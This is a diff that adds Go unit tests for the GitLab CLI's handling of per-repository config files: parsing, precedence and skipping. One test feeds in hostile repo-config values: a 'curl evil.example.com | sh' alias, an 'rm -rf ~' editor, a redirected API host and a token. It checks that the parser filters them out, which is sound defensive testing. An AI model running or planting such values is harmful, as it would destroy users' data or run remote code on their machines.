@@ -0,0 +1,202 @@
+//go:build !integration
+
+package config
+
+import (
+	"bytes"
+	"os"
+	"path"
+	"testing"
+
+	"github.com/MakeNowJust/heredoc/v2"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v3"
+
+	"gitlab.com/gitlab-org/cli/test"
+)
+
+func Test_parseRepoConfig(t *testing.T) {
+	root, err := parseRepoConfig([]byte(heredoc.Doc(`
+		mr_target_branch: develop
+		mr_reviewers: [alice, bob]
+		mr_labels:
+		  - backend
+		  - needs review, urgent
+		ci_variables:
+		  DEPLOY_ENV: staging
+		  REGIONS: eu,us
+		token: stolen
+		editor: rm -rf ~
+		hosts:
+		  gitlab.com:
+		    api_host: evil.example.com
+		aliases:
+		  review: mr list --reviewer=@me
+		  pwn: "!curl evil.example.com | sh"
+	`)))
+	require.NoError(t, err)
+
+	out, err := yaml.Marshal(root)
+	require.NoError(t, err)
+	assert.Equal(t, heredoc.Doc(`
+		mr_target_branch: develop
+		mr_reviewers: alice,bob
+		mr_labels: backend,"needs review, urgent"
+		ci_variables: DEPLOY_ENV:staging,"REGIONS:eu,us"
+		aliases:
+		    review: mr list --reviewer=@me
+	`), string(out))
+}
+
+func TestSplitList(t *testing.T) {
+	values, err := SplitList(`backend, "needs review, urgent"`)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"backend", "needs review, urgent"}, values)
+
+	values, err = SplitList("")
+	require.NoError(t, err)
+	assert.Empty(t, values)
+}
+
+func TestRepoConfig_precedence(t *testing.T) {
+	test.ClearEnvironmentVariables(t)
+	t.Setenv("GLAB_CONFIG_DIR", t.TempDir())
+
+	cfg := NewFromString(heredoc.Doc(`
+		mr_target_branch: main
+		mr_labels: global
+		local:
+		  mr_labels: local
+		repo:
+		  mr_target_branch: develop
+		  mr_labels: repo
+		  mr_squash: "true"
+	`))
+
+	tests := []struct {
+		key        string
+		wantValue  string
+		wantSource string
+	}{
+		{key: "mr_labels", wantValue: "local", wantSource: LocalConfigFile()},
+		{key: "mr_target_branch", wantValue: "main", wantSource: ConfigFile()},
+		{key: "mr_squash", wantValue: "true", wantSource: RepoConfigFileName},
+		{key: "glamour_style", wantValue: "dark", wantSource: DefaultSource},
+	}
+	for _, tc := range tests {
+		value, source, err := cfg.GetWithSource("", tc.key, true)
+		require.NoError(t, err)
+		assert.Equal(t, tc.wantValue, value, tc.key)
+		assert.Equal(t, tc.wantSource, source, tc.key)
+	}
+
+	// The repository configuration takes precedence over system-wide configuration files.
+	cfg.(*fileConfig).systemWide = true
+	value, source, err := cfg.GetWithSource("", "mr_target_branch", true)
+	require.NoError(t, err)
+	assert.Equal(t, "develop", value)
+	assert.Equal(t, RepoConfigFileName, source)
+	cfg.(*fileConfig).systemWide = false
+
+	t.Setenv("MR_TARGET_BRANCH", "from-env")
+	value, source, err = cfg.GetWithSource("", "mr_target_branch", true)
+	require.NoError(t, err)
+	assert.Equal(t, "from-env", value)
+	assert.Equal(t, "MR_TARGET_BRANCH", source)
+}
+
+func TestParseConfig_repoConfig(t *testing.T) {
+	test.ClearEnvironmentVariables(t)
+	defer StubConfig("git_protocol: ssh\n", "")()
+
+	origReadConfigFile := ReadConfigFile
+	stubbedReadConfigFile := ReadConfigFile
+	ReadConfigFile = func(fn string) ([]byte, error) {
+		if path.Base(fn) == RepoConfigFileName {
+			return []byte("mr_target_branch: develop\ntoken: stolen\n"), nil
+		}
+		return stubbedReadConfigFile(fn)
+	}
+	var lookups int
+	origRepoConfigFile := RepoConfigFile
+	RepoConfigFile = func() string {
+		lookups++
+		return "/repo/.glab.yml"
+	}
+	t.Cleanup(func() {
+		ReadConfigFile = origReadConfigFile
+		RepoConfigFile = origRepoConfigFile
+	})
+
+	cfg, err := ParseConfig("config.yml")
+	require.NoError(t, err)
+
+	// The repository configuration is only loaded to read its settings.
+	gitProtocol, err := cfg.Get("", "git_protocol")
+	require.NoError(t, err)
+	assert.Equal(t, "ssh", gitProtocol)
+	assert.Zero(t, lookups)
+
+	value, source, err := cfg.GetWithSource("", "mr_target_branch", true)
+	require.NoError(t, err)
+	assert.Equal(t, "develop", value)
+	assert.Equal(t, "/repo/.glab.yml", source)
+
+	value, err = cfg.Get("", "mr_target_branch")
+	require.NoError(t, err)
+	assert.Equal(t, "develop", value)
+	assert.Equal(t, 1, lookups)
+
+	token, err := cfg.Get("", "token")
+	require.NoError(t, err)
+	assert.Empty(t, token)
+
+	mainBuf := bytes.Buffer{}
+	defer StubWriteConfig(&mainBuf, &bytes.Buffer{})()
+	require.NoError(t, cfg.Write())
+	assert.Equal(t, "git_protocol: ssh\n", mainBuf.String())
+}
+
+func TestParseConfig_invalidRepoConfig(t *testing.T) {
+	test.ClearEnvironmentVariables(t)
+	defer StubConfig("git_protocol: ssh\n", "")()
+
+	dir := t.TempDir()
+	repoFile := path.Join(dir, RepoConfigFileName)
+	require.NoError(t, os.WriteFile(repoFile, []byte("- not a mapping\n"), 0o644))
+	origRepoConfigFile := RepoConfigFile
+	RepoConfigFile = func() string { return repoFile }
+	t.Cleanup(func() { RepoConfigFile = origRepoConfigFile })
+
+	cfg, err := ParseConfig("config.yml")
+	require.NoError(t, err)
+
+	gitProtocol, err := cfg.Get("", "git_protocol")
+	require.NoError(t, err)
+	assert.Equal(t, "ssh", gitProtocol)
+}
+
+func TestSkipRepoConfig(t *testing.T) {
+	test.ClearEnvironmentVariables(t)
+	defer StubConfig("git_protocol: ssh\n", "")()
+
+	origRepoConfigFile := RepoConfigFile
+	RepoConfigFile = func() string {
+		t.Error("the repository configuration file must not be looked up")
+		return ""
+	}
+	t.Cleanup(func() { RepoConfigFile = origRepoConfigFile })
+
+	cfg, err := ParseConfig("config.yml")
+	require.NoError(t, err)
+	SkipRepoConfig(cfg)
+
+	value, source, err := cfg.GetWithSource("", "mr_target_branch", true)
+	require.NoError(t, err)
+	assert.Empty(t, value)
+	assert.Equal(t, DefaultSource, source)
+
+	_, ok := RepoAlias(cfg, "review")
+	assert.False(t, ok)
+}